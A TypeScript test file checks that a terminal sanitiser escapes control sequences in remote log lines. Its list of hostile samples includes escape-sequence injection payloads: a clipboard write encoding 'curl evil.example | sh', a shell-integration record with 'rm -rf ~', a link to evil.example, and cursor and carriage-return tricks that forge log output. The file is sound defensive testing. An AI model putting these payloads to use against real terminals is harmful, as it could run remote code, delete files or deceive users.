/**
 * Remote text on its way into a terminal: only printable text, tabs and SGR colours pass; every
 * other control (C0, DEL, C1, ESC that starts anything but SGR) is shown escaped, so a log line
 * cannot make the terminal act (links, clipboard writes, shell-integration records, cursor moves).
 */
import * as assert from 'node:assert/strict';
import fc from 'fast-check';
import { terminalSafe, terminalSafeLines } from '../../src/api/terminalText';

/** What remains once the SGR sequences are taken out: it must hold no control but tab. */
const withoutSgr = (text: string) => text.replace(/\x1b\[[0-9;:]{0,64}m/g, '');
const CONTROL = /[\u0000-\u0008\u000a-\u001f\u007f-\u009f]/;

const HOSTILE: [string, string][] = [
  ['OSC 8 link', '\x1b]8;;https://evil.example/\x07click here\x1b]8;;\x07'],
  ['OSC 52 clipboard write', '\x1b]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\x07'],
  ['OSC 633 shell integration', '\x1b]633;E;rm -rf ~\x07'],
  ['cursor up and erase line', 'ok\x1b[1A\x1b[2K— stopped following —'],
  ['bare CR overwrite', 'GET /health 200\r— stopped following —'],
  ['C1 CSI (0x9b)', '\u009b1A forged'],
  ['C1 OSC (0x9d)', '\u009d52;c;AAAA\u009c'],
  ['DCS', '\x1bPq#0;2;0;0;0#1!\x1b\\'],
  ['title set', '\x1b]0;pwned\x07'],
  ['BEL and backspace', 'a\x07b\x08c'],
  ['lone ESC at the end', 'abc\x1b'],
  ['SGR with a private parameter', '\x1b[?25l hidden cursor'],
];

describe('Terminal text (remote log lines)', () => {
  for (const [name, text] of HOSTILE) {
    it(`shows ${name} as text, not as an instruction`, () => {
      const out = terminalSafe(text);
      assert.doesNotMatch(withoutSgr(out), CONTROL, JSON.stringify(out));
      assert.ok(!withoutSgr(out).includes('\x1b'), 'no ESC but SGR');
      // nothing of the text is lost: the escapes read back as the characters they stand for
      const readBack = out
        .replace(/\\x([0-9a-f]{2})/g, (_, h: string) => String.fromCharCode(parseInt(h, 16)))
        .replace(/\\r/g, '\r')
        .replace(/\\n/g, '\n');
      assert.equal(readBack, text);
    });
  }

  it('keeps printable text, tabs, Unicode and SGR colours as they are', () => {
    const text = 'GET /ü 200\t\x1b[31mred\x1b[0m \x1b[38;2;255;0;0mtrue\x1b[0m 😀';
    assert.equal(terminalSafe(text), text);
  });

  it('splits lines on LF and CRLF and joins them with CRLF; a CR inside a line is shown', () => {
    assert.equal(terminalSafeLines('a\r\nb\nc\rd'), 'a\r\nb\r\nc\\rd');
  });

  it('for any text, what reaches the terminal holds no control but tab and SGR (2,000 generated lines)', () => {
    const piece = fc.oneof(
      fc.string({ unit: 'binary', maxLength: 20 }),
      fc.constantFrom('\x1b', '\x1b[', '\x1b]', '\x07', '\x9b', '\x9d', '\r', '\n', '\x1b\\', '\x1b[31m', '\x1b[0m', '\x1b[1A', '\x1b]8;;', ';', 'm', '['),
      fc.stringMatching(/^\x1b\[[0-9;:]{0,80}[A-Za-z]$/),
    );
    fc.assert(
      fc.property(fc.array(piece, { maxLength: 12 }), (pieces) => {
        const text = pieces.join('');
        const out = terminalSafe(text);
        assert.doesNotMatch(withoutSgr(out), CONTROL);
        assert.ok(!withoutSgr(out).includes('\x1b'));
        // printable-only text is left exactly as it was
        if (!CONTROL.test(text) && !text.includes('\x1b')) assert.equal(out, text);
      }),
      { numRuns: 2_000 },
    );
  });
});
